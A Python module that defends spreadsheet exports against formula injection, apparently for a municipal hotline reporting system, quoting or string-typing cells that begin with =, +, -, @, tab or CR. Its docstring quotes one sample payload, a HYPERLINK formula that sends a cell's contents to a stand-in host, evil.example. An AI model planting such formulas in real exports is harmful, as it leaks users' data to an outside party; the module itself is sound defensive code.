"""Cells of every export (.xlsx and .csv) written so that no text becomes a formula (CSV / formula injection).

A report's address such as ``=HYPERLINK("http://evil.example/?d="&A2,"点击")`` is text a gridworker or a
12345 caller typed; in a supervisor's spreadsheet it must stay text. OWASP's guidance: a cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written as text — in .csv with a leading single
quote, in .xlsx as a string cell with Excel's quotePrefix (the value itself unchanged). Numbers stay numbers,
negative ones included. Every export goes through :func:`xlsx_cell` / :func:`xlsx_append` or
:func:`csv_row`, and is audited with :func:`audit_export`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")  # "-5" is a number, not a formula


def is_formula_like(value: Any) -> bool:
    """Text that a spreadsheet could read as a formula (a plain signed number such as "-5" is not)."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(value)


def csv_cell(value: Any) -> Any:
    """The value for a csv writer: formula-like text gets a leading single quote; anything else as it is."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def _storable(value: Any) -> Any:
    """openpyxl refuses control characters other than tab, LF and CR; they are never meaningful text."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _as_text(cell) -> None:
    cell.data_type = "s"  # openpyxl made "=…" a formula; a string cell is shown exactly as typed
    cell.quotePrefix = True  # and Excel keeps it text even when somebody edits the cell


def xlsx_cell(ws, row: int, column: int, value: Any):
    """Write one cell: formula-like text as a string (never data_type "f"), numbers as numbers."""
    value = _storable(value)
    cell = ws.cell(row=row, column=column, value=value)
    if is_formula_like(value):
        _as_text(cell)
    return cell


def xlsx_append(ws, values: Iterable[Any]) -> None:
    """``ws.append(values)`` with the same rule as :func:`xlsx_cell`."""
    values = [_storable(v) for v in values]
    ws.append(values)
    row = ws.max_row
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            _as_text(ws.cell(row=row, column=column))


def audit_export(action: str, object_type: str, object_id: Any, *, what: str, rows: int) -> None:
    """One audit row per export, committed: who (the account, its address), what (place, table, period,
    filters) and how many rows left the system."""
    from .audit import audit

    audit(action, object_type, object_id, detail=f"导出 {what}；共 {rows} 行"[:2000], commit=True)
